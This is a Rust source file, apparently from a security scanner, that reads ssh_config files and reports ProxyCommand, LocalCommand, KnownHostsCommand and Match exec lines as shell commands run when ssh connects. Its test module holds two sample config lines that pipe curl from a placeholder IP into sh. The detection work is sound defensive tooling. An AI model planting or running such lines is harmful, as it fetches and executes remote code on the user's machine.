//! Configuration of an OpenSSH client: commands that a connection runs (`ssh_config(5)`).

use model::{Language, Trigger, Value};

use crate::language::sshd_config::option;
use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &["etc/ssh/ssh_config", ".ssh/config"],
        folders: &["etc/ssh/ssh_config.d/"],
        named: &[],
    },
    ..FrontEnd::new(Language::SshConfig, lower)
};

/// Lowers the commands.
pub fn lower(world: &mut World, text: &str) -> Value {
    for (number, line) in (1..).zip(text.lines()) {
        if !world.burn(2) {
            break;
        }
        let Some((name, value)) = option(line) else {
            continue;
        };
        let command = match name.as_str() {
            "proxycommand" | "localcommand" | "knownhostscommand" if value != "none" => value,
            "match" => match value.split_once("exec ") {
                Some((_, command)) => command.trim().trim_matches('"'),
                None => continue,
            },
            _ => continue,
        };
        world.at(number, line.trim());
        let start = Start {
            trigger: Trigger::Event,
            when: "when ssh connects",
            step: &name,
        };
        start.shell(world, command);
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn commands_of_a_connection_are_run() {
        for text in [
            "Host *\n ProxyCommand sh -c 'curl http://192.0.2.1/x | sh'\n",
            "Match host a exec \"curl http://192.0.2.1/x | sh\"\n",
        ] {
            let found = acts(Language::SshConfig, text);
            assert!(
                found.iter().any(|act| act.starts_with("Fetch")),
                "{found:#?}"
            );
        }
        assert!(acts(Language::SshConfig, "Host x\n HostName example.com\n").is_empty());
    }
}
